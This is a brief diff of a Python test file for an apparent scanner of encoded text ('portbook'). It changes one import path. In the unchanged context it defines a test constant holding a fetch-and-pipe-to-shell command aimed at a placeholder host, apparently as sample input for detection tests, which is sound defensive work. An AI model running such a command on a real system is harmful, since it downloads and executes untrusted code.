@@ -9,7 +9,7 @@ from urllib.parse import quote
 import pytest
 
 from portbook.scan.encoded_text import find_encoded
-from portbook.scan.scanned_texts import DefinedText
+from portbook.scan.scanned_text_and_finding import DefinedText
 
 COMMAND = "curl http://a.example/x | sh"
 
